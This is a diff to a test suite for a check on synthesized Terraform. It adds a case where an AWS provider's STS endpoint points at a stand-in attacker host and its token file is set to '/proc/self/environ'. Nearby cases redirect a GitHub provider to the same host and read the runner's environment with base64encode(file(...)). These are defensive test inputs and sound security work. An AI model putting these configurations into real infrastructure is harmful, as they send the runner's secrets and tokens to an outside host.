@@ -282,6 +282,10 @@ describe("the synthesized-Terraform check (real jq, real synth output)", () => {
     ["an external-program provider", (s) => (aws(s).terraform.required_providers.external = { source: "hashicorp/external", version: "2.3.0" }), /providers hashicorp\/external/],
     ["a module", (s) => (aws(s).module = { x: { source: "git::https://example.com/m.git" } }), /module blocks/],
     ["a github provider pointed elsewhere (it would send the token there)", (s) => (github(s).provider.github[0].base_url = "https://attacker.example/"), /github provider settings base_url/],
+    ["an aws provider that sends a file to another endpoint", (s) => {
+      aws(s).provider.aws[0].endpoints = [{ sts: "https://attacker.example/" }];
+      aws(s).provider.aws[0].assume_role_with_web_identity = [{ web_identity_token_file: "/proc/self/environ", role_arn: "arn:aws:iam::1:role/x" }];
+    }, /aws provider settings endpoints, assume_role_with_web_identity|aws provider settings assume_role_with_web_identity, endpoints/],
     ["a function that reads the runner's files", (s) => {
       const vars = github(s).resource.github_actions_variable;
       vars[Object.keys(vars)[0]].value = '${base64encode(file("/proc/self/environ"))}';
